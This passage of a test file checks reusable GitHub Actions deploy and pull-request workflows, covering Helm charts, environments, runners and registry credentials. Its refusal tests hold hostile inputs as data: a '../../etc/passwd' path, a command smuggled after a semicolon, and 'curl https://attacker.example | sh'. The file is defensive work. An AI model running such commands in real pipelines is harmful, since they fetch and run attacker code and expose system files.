    const checkJob = allJobs(r).find((j) => j.path === 'deploy/check');
    // dreamscape-deploy.yml passes deploy.yml no secret: the check job can name none.
    expect([checkJob?.result, checkJob?.environment, checkJob?.secrets]).toEqual([
      'success',
      undefined,
      { GITHUB_TOKEN: checkJob?.token },
    ]);
    const [changes] = calls(r, 'action-changes');
    expect(changes?.with).toMatchObject({
      mode: 'deploy-check',
      'allowed-runners': 'ubuntu-latest',
      'release-tags': '',
      'allow-any-ref': 'false',
    });
    const job = allJobs(r).find((j) => j.path === 'deploy/deploy');
    expect([job?.result, job?.environment?.name, job?.runsOn]).toEqual(['success', 'prod', 'ubuntu-latest']);
    expect(writeScopes(job?.permissions ?? NO_PERMISSIONS)).toEqual(['deployments']);
    expect(calls(r, 'action-deploy').map((c) => [c.with.environment, c.with['require-scan']])).toEqual([
      ['prod', 'true'],
    ]);
  });

  it.each([
    ["a ref off the default branch (a fork's pull request head)", { ref: 'refs/pull/7/head' }, /ref/],
    [
      'a smoke-test script outside the repository',
      { 'smoke-test-script': '../../etc/passwd' },
      /smoke-test-script/,
    ],
    [
      'a smoke-test script that is a command',
      { 'smoke-test-script': 'scripts/smoke-test.sh; curl evil' },
      /smoke-test-script/,
    ],
    [
      "an image from outside the owner's packages",
      { images: `gateway=ghcr.io/mallory/gateway@${digestOf('x')}` },
      /allowed-images|ghcr\.io\/dreamscape\//,
    ],
  ])('refuses %s in the check job; the deploy job never runs', async (_name, inputs, message) => {
    const r = await deploy(inputs);
    const step = allSteps(r).find(
      ({ job, step: st }) => job.path === 'deploy/check' && st.id === 'check',
    )?.step;
    expect(step?.outcome).toBe('failure');
    expect(step?.error).toMatch(message);
    expect(allJobs(r).find((j) => j.path === 'deploy/deploy')?.result).toBe('skipped');
    expect(environmentsOf(r)).toEqual([]);
    expect(secretsIn(r)).toEqual([]);
  });

  it.each([
    [
      'a runner outside the form',
      { 'runs-on': 'self-hosted' },
      "Provided value 'self-hosted' for input 'runs-on' not in the list of allowed values",
    ],
    [
      'a smoke test typed into the form',
      { 'smoke-test': 'curl https://attacker.example | sh' },
      'Unexpected inputs provided: ["smoke-test"]',
    ],
  ])('GitHub refuses %s before any job', async (_name, inputs, reason) => {
    const r = await deploy(inputs);
    expect([r.status, r.reason, r.jobs]).toEqual(['refused', reason, []]);
  });

  it('a deploy dispatched from another branch fails at the environment, whose deployment branches are the default branch', async () => {
    const r = await deploy({}, 'refs/heads/feature/faster');
    const job = allJobs(r).find((j) => j.path === 'deploy/deploy');
    expect(job?.result).toBe('failure');
    expect(job?.error).toMatch(/not allowed to deploy to prod/);
    expect(job?.steps).toEqual([]);
  });
});

describe('a Helm chart deployed through deploy.yml', () => {
  /** A consumer's workflow calling deploy.yml on a push to main with `with`, as YAML lines. */
  const caller = (environment: string, withLines: string[]): { path: string; content: string } => ({
    path: '.github/workflows/payment.yml',
    content: [
      'name: payment',
      'on:',
      '  push:',
      '    branches: [main]',
      'permissions: {}',
      'jobs:',
      '  deploy:',
      '    uses: dreamscape/actions/.github/workflows/deploy.yml@v1',
      '    permissions: { contents: read, deployments: write, packages: read }',
      '    with:',
      `      environment: ${environment}`,
      `      images: gateway=${pinned('gateway')}`,
      ...withLines.map((l) => `      ${l}`),
      '',
    ].join('\n'),
  });
  const deployStep = (r: WorkflowRunRecord): string[] =>
    (allJobs(r).find((j) => j.path === 'deploy/deploy')?.steps ?? []).map(
      (st) => `${st.id === 'deploy' ? 'deploy' : st.name}:${st.outcome}`,
    );
  const helmCalls = (r: WorkflowRunRecord): ActionCall[] =>
    actionCalls(r).filter((c) => c.action === 'azure/setup-helm');

  it('an oci:// chart in staging: helm v3.17.2 set up first, the chart inputs passed, no overlay, the registry credentials given', async () => {
    const r = await run('pipeline', pushMain(), {
      workflow: caller('staging', [
        'namespace: payment',
        'chart: oci://ghcr.io/dreamscape/charts/payment',
        'chart-version: 1.4.0',
        'values: |',
        '  deploy/values.yaml',
        '  deploy/values-staging.yaml',
        'set: replicaCount=2',
      ]),
    });
    expect(allJobs(r).find((j) => j.path === 'deploy/deploy')?.result).toBe('success');
    const steps = deployStep(r);
    expect(steps.indexOf('Helm:success')).toBeGreaterThanOrEqual(0);
    expect(steps.indexOf('Helm:success')).toBeLessThan(steps.findIndex((st) => st.startsWith('deploy:')));
    expect(helmCalls(r).map((c) => [c.ref, c.with.version])).toEqual([
      ['9bc31f4ebc9c6b171d7bfbaa5d006ae7abdb4310', 'v3.17.2'],
    ]);
    const [deploy] = calls(r, 'action-deploy');
    expect(deploy?.with).toMatchObject({
      overlay: '',
      chart: 'oci://ghcr.io/dreamscape/charts/payment',
      'chart-version': '1.4.0',
      values: 'deploy/values.yaml\ndeploy/values-staging.yaml\n',
      set: 'replicaCount=2',
      namespace: 'payment',
      'require-scan': 'true',
      'registry-username': 'octocat',
    });
    expect(deploy?.with['registry-password']).not.toBe('');
  });

  it('a chart folder in dev: helm set up, no credentials (no verdicts, no oci:// registry)', async () => {
    const r = await run('pipeline', pushMain(), {
      workflow: caller('dev', ['namespace: payment', 'chart: charts/payment']),
    });
    expect(helmCalls(r)).toHaveLength(1);
    const [deploy] = calls(r, 'action-deploy');
    expect(deploy?.with).toMatchObject({
      overlay: '',
      chart: 'charts/payment',
      'require-scan': 'false',
      'registry-username': '',
      'registry-password': '',
    });
  });

  it("gives the registry credentials (the workflow token by default) to an oci:// chart of scan-registry only, never to another registry's", async () => {
    const credentialsFor = async (chart: string): Promise<[string, boolean]> => {
      const r = await run('pipeline', pushMain(), {
        workflow: caller('dev', ['namespace: cache', `chart: ${chart}`, 'chart-version: 21.2.0']),
      });
      const [deploy] = calls(r, 'action-deploy');
      expect([deploy?.with.chart, deploy?.with['require-scan']]).toEqual([chart, 'false']);
      return [deploy?.with['registry-username'] ?? '', (deploy?.with['registry-password'] ?? '') !== ''];
    };
    expect(await credentialsFor('oci://ghcr.io/dreamscape/charts/cache')).toEqual(['octocat', true]);
    expect(await credentialsFor('oci://registry-1.docker.io/bitnamicharts/redis')).toEqual(['', false]);
    // A host that only begins like scan-registry's is another registry.
    expect(await credentialsFor('oci://ghcr.io.example.net/charts/cache')).toEqual(['', false]);
  });

  it('an overlay, as before: no helm set up, the default overlay of the environment', async () => {
    const r = await run('pipeline', pushMain(), { workflow: caller('dev', []) });
    expect(deployStep(r)).toContain('Helm:skipped');
    expect(helmCalls(r)).toEqual([]);
    const [deploy] = calls(r, 'action-deploy');
    expect(deploy?.with).toMatchObject({ overlay: 'k8s/overlays/dev', chart: '', 'registry-username': '' });
  });
});

describe('a Helm chart planned by pr-checks.yml', () => {
  const checks = (withLines: string[]): { path: string; content: string } => ({
    path: '.github/workflows/checks.yml',
    content: [
      'name: checks',
      'on: pull_request',
      'permissions: {}',
      'jobs:',
      '  checks:',
      '    uses: dreamscape/actions/.github/workflows/pr-checks.yml@v1',
      '    permissions: { contents: read, packages: write, pull-requests: write, security-events: write, actions: read }',
      '    with:',
      '      context: .',
      '      image: ghcr.io/dreamscape/payment',
      `      environments: '["dev", "prod"]'`,
      ...withLines.map((l) => `      ${l}`),
      '',
    ].join('\n'),
  });
  const plans = (r: WorkflowRunRecord): ActionCall[] =>
    calls(r, 'action-deploy').filter((c) => c.with.mode === 'plan');

  it("plans the chart in every environment with that environment's values files, helm set up first, no overlay", async () => {
    const r = await run('pipeline', branchPullRequest(), {
      workflow: checks([
        'chart: charts/payment',
        'namespace: payment',
        'values: |',
        '  charts/payment/values.yaml',
        '  deploy/values-{environment}.yaml',
        'set: migration.enabled=false',
      ]),
    });
    const planned = plans(r).map((c) => ({
      environment: c.with.environment,
      overlay: c.with.overlay,
      chart: c.with.chart,
      namespace: c.with.namespace,
      values: (c.with.values ?? '').split('\n').filter((l) => l !== ''),
      set: c.with.set,
    }));
    expect(planned).toEqual(
      ['dev', 'prod'].map((environment) => ({
        environment,
        overlay: '',
        chart: 'charts/payment',
        namespace: 'payment',
        values: ['charts/payment/values.yaml', `deploy/values-${environment}.yaml`],
        set: 'migration.enabled=false',
      })),
    );
    const planJobs = allJobs(r).filter((j) => j.path.startsWith('checks/plan'));
    expect(planJobs).toHaveLength(2);
    for (const job of planJobs) {
      const names = job.steps.map((st) => `${st.name}:${st.outcome}`);
      expect(names.indexOf('Helm:success')).toBeGreaterThan(-1);
      expect(names.indexOf('Helm:success')).toBeLessThan(job.steps.findIndex((st) => st.id === 'plan'));
    }
    expect(secretsIn(r)).toEqual([]);
  });

  it('without a chart plans the overlays as before, with no helm and no values step', async () => {
    const r = await run('pipeline', branchPullRequest(), { workflow: checks([]) });
    expect(plans(r).map((c) => [c.with.environment, c.with.overlay, c.with.chart, c.with.values])).toEqual([
      ['dev', 'k8s/overlays/dev', '', ''],
      ['prod', 'k8s/overlays/prod', '', ''],
    ]);
    const steps = allJobs(r)
      .filter((j) => j.path.startsWith('checks/plan'))
      .flatMap((j) => j.steps.map((st) => `${st.name}:${st.outcome}`));
    expect(steps.filter((st) => st.startsWith('Helm:') || st.startsWith('Values files'))).toEqual([
      'Values files of dev:skipped',
      'Helm:skipped',
      'Values files of prod:skipped',
      'Helm:skipped',
    ]);
  });
});
